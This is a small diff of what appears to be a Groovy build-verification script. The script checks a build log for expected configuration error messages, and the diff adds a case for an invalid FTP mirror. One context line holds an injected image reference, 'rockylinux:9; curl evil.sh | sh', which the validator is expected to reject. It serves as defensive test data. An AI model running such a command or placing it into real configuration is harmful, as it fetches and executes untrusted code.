@@ -6,6 +6,7 @@ def log = new File(basedir, 'build.log').text
     '<matrix><platforms>: platform linux/s390x is not supported',
     '<imageName>: unknown placeholder(s) [{arch}]',
     '<policy>: unknown policy "lenient"',
+    '<mirrors><mirror>[1]: "ftp://mirror.example.com/python-fips" is not a mirror',
     '<baseImages><rocky9>: "rockylinux:9; curl evil.sh | sh" is not a valid image reference',
     'Python 3.10 has no FIPS patch set',
     'cannot load into OpenSSL 1.0.2u',
